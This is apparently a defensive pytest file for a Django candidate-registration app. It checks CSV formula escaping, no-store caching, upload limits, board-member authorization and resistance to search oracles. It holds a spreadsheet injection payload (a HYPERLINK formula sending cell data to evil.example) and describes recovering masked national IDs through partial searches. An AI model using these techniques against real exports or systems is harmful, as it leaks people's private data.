"""Attack review (December 2026): what an outsider tried against the candidates app's
public and staff surfaces, each through the public interface (docs/reviews/2026-12-attack.md)."""

from __future__ import annotations

import csv
import datetime
import io
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse

from amanat.candidates.models import FinalList, FinalListEntry, State
from amanat.candidates.tests import review_factories as f
from amanat.candidates.tests.conftest import World

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"click")'


def _published(world: World, **names: Any) -> FinalList:
    race = world.city_council
    seat = world.city(world.geo.gharchak_city)
    c = f.candidacy(contest=race, constituency=seat, county=world.geo.gharchak,
                    state=State.QUALIFIED, **names)
    final = FinalList.objects.create(contest=race, constituency=seat,
                                     published_at=datetime.datetime(2026, 1, 20,
                                                                    tzinfo=datetime.UTC))
    FinalListEntry.objects.create(final_list=final, candidacy=c, ballot_order=1,
                                  ballot_name=f"{c.first_name} {c.last_name}",
                                  withdrawn_at=datetime.datetime(2026, 1, 21,
                                                                 tzinfo=datetime.UTC),
                                  withdrawal_note="+1-2")
    return final


def test_public_final_list_csv_does_not_carry_formulas(world: World) -> None:
    """A name typed in the public registration form reaches the public CSV: a cell a
    spreadsheet would run is escaped (the apostrophe every export uses)."""
    final = _published(world, first_name=FORMULA, last_name="@SUM(1)")
    text = Client().get(reverse("public_final_list_csv", args=[final.pk])).content.decode()
    rows = list(csv.reader(line for line in io.StringIO(text.lstrip("\ufeff"))
                           if not line.startswith("#")))
    assert rows[1][1] == "'" + FORMULA + " @SUM(1)"
    assert rows[1][5] == "'+1-2"


def test_registration_pages_with_the_visitors_data_are_not_stored(world: World,
                                                                  client: Client) -> None:
    """Signed out, the registration steps show the candidate's mobile number and tracking
    code from their session: no shared cache or browser history may keep them."""
    from amanat.candidates.tests.conftest import nid
    from amanat.candidates.tests.test_registration import _code, _person, _start

    assert "no-store" not in client.get(reverse("candidates:register")).get(
        "Cache-Control", "")
    assert _start(client, world, nid(21)).status_code == 302
    page = client.get(reverse("candidates:register_confirm"))
    assert 'name="code"' in page.content.decode()
    assert page["Cache-Control"] == "private, no-store"
    response = client.post(reverse("candidates:register_confirm"), _person(
        code=_code(), constituency=world.city(world.geo.gharchak_city).pk))
    assert response.status_code == 302
    page = client.get(reverse("candidates:register_documents"))
    assert page.status_code == 200 and page["Cache-Control"] == "private, no-store"
    # A public page that reads nothing of the visitor keeps its caching.
    assert "no-store" not in Client().get(reverse("public_final_lists")).get(
        "Cache-Control", "")


def test_online_uploads_are_limited_per_document_type(world: World, client: Client) -> None:
    """One registration code must not let a visitor store files without end (every
    upload is kept as the dossier's history)."""
    from django.core.files.uploadedfile import SimpleUploadedFile

    from amanat.candidates.models import Document, DocumentType
    from amanat.candidates.services import PUBLIC_UPLOADS_PER_TYPE
    from amanat.candidates.tests.conftest import nid
    from amanat.candidates.tests.test_registration import _register_online

    assert _register_online(client, world, nid(22)).status_code == 302
    photo = DocumentType.objects.get(contest_kind="city_council", code="photo")
    url = reverse("candidates:register_documents")
    for i in range(PUBLIC_UPLOADS_PER_TYPE):
        upload = SimpleUploadedFile(f"p{i}.png", b"\x89PNG\r\n\x1a\n" + bytes([i]) * 64)
        assert client.post(url, {"document_type": photo.pk, "file": upload}
                           ).status_code == 302
    upload = SimpleUploadedFile("more.png", b"\x89PNG\r\n\x1a\n" + b"x" * 64)
    response = client.post(url, {"document_type": photo.pk, "file": upload},
                           HTTP_ACCEPT_LANGUAGE="en")
    assert response.status_code == 200
    assert Document.objects.count() == PUBLIC_UPLOADS_PER_TYPE


def test_a_final_list_is_published_only_for_a_constituency_of_its_contest(
        world: World) -> None:
    """The contest and the constituency both come from the publish URL: an executive
    board member must not publish an (empty) final list of another contest."""
    from amanat.accounts.models import Role
    from amanat.accounts.testing import sign_in
    from amanat.elections.models import ContestKind

    today = datetime.date.today()
    f.calendar(world.election, closes=today - datetime.timedelta(days=5),
               complaints_close=today - datetime.timedelta(days=2))
    village = world.contest(ContestKind.VILLAGE_COUNCIL)
    seat = world.city(world.geo.gharchak_city)  # a city: not in the village contest
    assert not village.constituencies.filter(pk=seat.pk).exists()
    board = Client()
    sign_in(board, f.member("board_publisher", Role.EXECUTIVE_BOARD, world.geo.gharchak))
    url = reverse("candidates_review:publish", args=[village.pk, seat.pk])
    assert board.post(url).status_code == 302
    assert not FinalList.objects.filter(published_at__isnull=False).exists()
    # The city contest's own list is published.
    url = reverse("candidates_review:publish", args=[world.city_council.pk, seat.pk])
    assert board.post(url).status_code == 302
    assert FinalList.objects.get(published_at__isnull=False).contest == world.city_council


def test_the_documents_step_ends_when_the_visitor_leaves(
        world: World, client: Client, monkeypatch: pytest.MonkeyPatch) -> None:
    """On a shared computer the next person, in the same browser session (hours long),
    must not reach the last candidate's dossier page and upload into it."""
    from django.conf import settings
    from django.utils import timezone

    from amanat.candidates.tests.conftest import nid
    from amanat.candidates.tests.test_registration import _register_online

    assert _register_online(client, world, nid(23)).status_code == 302
    url = reverse("candidates:register_documents")
    assert client.get(url).status_code == 200
    later = timezone.now() + datetime.timedelta(
        seconds=settings.AMANAT_SESSION_IDLE_SECONDS + 60)
    monkeypatch.setattr(timezone, "now", lambda: later)
    response = client.get(url)
    assert response.status_code == 302 and response["Location"] == reverse(
        "candidates:register")


def test_the_public_pdf_is_drawn_once_per_version_of_the_list(
        world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    """The public PDF costs a second or more of CPU: repeating the request must not draw
    it again (anyone could keep the workers busy); a withdrawal draws the new version."""
    from django.core.cache import cache

    from amanat.candidates import review_pdf

    cache.clear()
    drawn: list[int] = []
    real = review_pdf.html_to_pdf

    def counting(*args: Any, **kwargs: Any) -> bytes:
        drawn.append(1)
        return real(*args, **kwargs)

    monkeypatch.setattr(review_pdf, "html_to_pdf", counting)
    final = _published(world)
    url = reverse("public_final_list_pdf", args=[final.pk])
    first = Client().get(url)
    assert first.status_code == 200 and first.content.startswith(b"%PDF")
    again = Client().get(url)
    assert again.content == first.content and len(drawn) == 1
    FinalListEntry.objects.filter(final_list=final).update(withdrawn_at=None)
    assert Client().get(url).status_code == 200 and len(drawn) == 2


# --- Attack review 2, candidates and people (docs/reviews/2026-12-attack-candidates-people.md)


def _board_world(small_geo: Any) -> dict[str, Any]:
    """A Gharchak candidacy awaiting the executive board, the executive board of Gharchak
    and the supervision board of Tehran complete, one user linked to a seat of each."""
    from amanat.accounts.models import Role
    from amanat.boards.demo import complete_board
    from amanat.boards.models import BoardKind
    from amanat.elections.models import Election

    today = datetime.date.today()
    day = datetime.timedelta(days=1)
    election = Election.objects.create(name="round2", slug="round2",
                                       election_day=today + 60 * day)
    f.calendar(election, closes=today - 3 * day, complaints_close=today + 5 * day)
    race = f.contest(election)
    seat = f.constituency(small_geo.gharchak_city, small_geo.tehran)
    candidacy = f.candidacy(contest=race, constituency=seat, county=small_geo.gharchak,
                            last_name="رضایی")
    second = f.candidacy(contest=race, constituency=seat, county=small_geo.gharchak,
                         last_name="کریمی")
    executive = f.member("exec_seat", Role.EXECUTIVE_BOARD, small_geo.gharchak)
    exec2 = f.member("exec_seat2", Role.EXECUTIVE_BOARD, small_geo.gharchak)
    supervision = f.member("sup_seat", Role.SUPERVISION_BOARD, small_geo.tehran)
    other_sup = f.member("sup_other", Role.SUPERVISION_BOARD, small_geo.tehran)
    outsider = f.member("exec_never_appointed", Role.EXECUTIVE_BOARD, small_geo.gharchak)
    # The four inquiries answered: the refusals below are the seats', not the answers'.
    f.answered(candidacy, second, by=executive)
    boards = {}
    for kind, unit, users in ((BoardKind.COUNTY_EXECUTIVE, small_geo.gharchak,
                               [executive, exec2]),
                              (BoardKind.SUPERVISION, small_geo.tehran,
                               [supervision, other_sup])):
        boards[kind], _added = complete_board(election=election, kind=kind, unit=unit,
                                              users=users)
    return {"election": election, "c": candidacy, "second": second, "exec": executive,
            "exec2": exec2, "sup": supervision, "other_sup": other_sup, "outsider": outsider,
            "boards": boards}


def _signed_in(user: Any) -> Client:
    from amanat.accounts.testing import sign_in

    client = Client()
    sign_in(client, user)
    return client


def test_only_a_serving_board_member_decides(small_geo: Any, personas: Any) -> None:
    """The executive board's decision and the supervision board's check are the boards'
    acts: a user whose seat was ended or replaced (amanat/boards) must not take them with
    the account role left behind, nor a role holder never appointed to the board."""
    from amanat.boards.models import BoardKind
    from amanat.boards.services import member_replace
    from amanat.candidates.models import ReviewDecision

    w = _board_world(small_geo)
    board = w["boards"][BoardKind.COUNTY_EXECUTIVE]
    seat = board.members.serving().get(user=w["exec"])
    member_replace(actor=None, member=seat, full_name="عضو جانشین",
                   national_id=f.national_id(777001), appointed_on=datetime.date.today(),
                   reason="برکناری")
    decide = reverse("candidates_review:decide", args=[w["c"].pk])
    # The replaced member, and a role holder who never sat on the board: refused.
    assert _signed_in(w["exec"]).post(decide, {"outcome": "qualified"}).status_code == 422
    assert _signed_in(w["outsider"]).post(decide, {"outcome": "qualified"}).status_code == 422
    assert not ReviewDecision.objects.filter(candidacy=w["c"]).exists()


def test_only_a_serving_supervision_member_checks(small_geo: Any, personas: Any) -> None:
    from amanat.boards.models import BoardKind
    from amanat.boards.services import member_replace
    from amanat.candidates.models import ReviewDecision

    w = _board_world(small_geo)
    assert _signed_in(w["exec2"]).post(
        reverse("candidates_review:decide", args=[w["second"].pk]),
        {"outcome": "qualified"}).status_code == 302
    decision = ReviewDecision.objects.get(candidacy=w["second"])
    board = w["boards"][BoardKind.SUPERVISION]
    member_replace(actor=None, member=board.members.serving().get(user=w["sup"]),
                   full_name="ناظر جانشین", national_id=f.national_id(777002),
                   appointed_on=datetime.date.today(), reason="استعفا")
    check = reverse("candidates_review:check", args=[decision.pk])
    assert _signed_in(w["sup"]).post(check, {"outcome": "confirmed"}).status_code == 422
    assert ReviewDecision.objects.filter(candidacy=w["second"]).count() == 1
    # A serving member still checks.
    assert _signed_in(w["other_sup"]).post(check, {"outcome": "confirmed"}).status_code == 302


def test_search_is_no_oracle_for_masked_national_ids(world: World) -> None:
    """The supervision board sees ``******1234`` in the list and on the dossier (no reveal
    for its role); searching "d1234" for each digit d, then "dd1234", ... gave the whole
    number back in about 30 unaudited GETs. A full national ID still finds its candidate."""
    from amanat.accounts.testing import sign_in

    race = world.city_council
    c = f.candidacy(contest=race, constituency=world.city(world.geo.gharchak_city),
                    county=world.geo.gharchak, last_name="رضایی")
    # A tracking code shaped like the real ones (ten digits) and sharing none of the
    # national ID's digit runs tried below.
    from amanat.candidates.models import Candidacy
    from amanat.lib.persian import search_key

    c.reference = "9" * 10
    Candidacy.objects.filter(pk=c.pk).update(reference=c.reference, search_text=search_key(
        f"{c.first_name} {c.last_name} {c.national_id} {c.reference}"))
    client = Client()
    sign_in(client, world.supervision)
    url = reverse("candidates:list")
    link = reverse("candidates:detail", args=[c.pk])
    assert link in client.get(url).content.decode()
    # The dossier shows the number masked, with no reveal for this role.
    dossier = client.get(reverse("candidates:detail", args=[c.pk])).content.decode()
    assert c.national_id not in dossier and 'data-testid="reveal"' not in dossier
    assert link in client.get(url, {"q": c.national_id}).content.decode()
    for partial in (c.national_id[-6:], c.national_id[:7], c.national_id[2:8]):
        page = client.get(url, {"q": partial}).content.decode()
        assert link not in page, partial


def test_a_mobile_number_in_other_digits_is_the_same_number(world: World) -> None:
    from django.test import TestCase

    from amanat.candidates.models import MobileCode
    from amanat.candidates.tests.conftest import nid
    from amanat.core import notify

    spellings = ["09121234567", "0912\uff11\uff12\uff134567", "09\u0967\u0968\u0967\u0968"
                 "\u0969\u096a\u096b\u096c\u096d", "091212345\uff16\uff17",
                 "0912123\uff14\uff15\uff16\uff17", "0912123456\uff17"]
    statuses = []
    for i, mobile in enumerate(spellings):
        with TestCase.captureOnCommitCallbacks(execute=True):
            statuses.append(Client().post(reverse("candidates:register"), {
                "contest": world.city_council.pk, "county": world.geo.gharchak.pk,
                "national_id": nid(900 + i), "mobile": mobile}).status_code)
    # Stored and texted in the one form, so the sixth code to the same phone is refused.
    assert statuses[:5] == [302] * 5
    assert statuses[-1] != 302
    assert set(MobileCode.objects.values_list("mobile", flat=True)) == {"09121234567"}
    assert {m.to for m in notify.outbox} == {"09121234567"}


def test_a_board_member_does_not_decide_their_own_candidacy(small_geo: Any,
                                                            personas: Any) -> None:
    from amanat.boards.models import BoardKind
    from amanat.candidates.models import Candidacy, DeclaredRelative, ReviewDecision

    w = _board_world(small_geo)
    seat = w["boards"][BoardKind.COUNTY_EXECUTIVE].members.serving().get(user=w["exec"])
    # The member stands in the election (registered at the county office like anyone).
    Candidacy.objects.filter(pk=w["c"].pk).update(national_id=seat.national_id)
    decide = reverse("candidates_review:decide", args=[w["c"].pk])
    assert _signed_in(w["exec"]).post(decide, {"outcome": "qualified"}).status_code == 422
    # Nor on a candidate who declared them a relative.
    DeclaredRelative.objects.create(candidacy=w["second"], national_id=seat.national_id,
                                    first_name="عضو", last_name="هیئت", relation="sibling")
    decide = reverse("candidates_review:decide", args=[w["second"].pk])
    assert _signed_in(w["exec"]).post(decide, {"outcome": "qualified"}).status_code == 422
    assert not ReviewDecision.objects.exists()
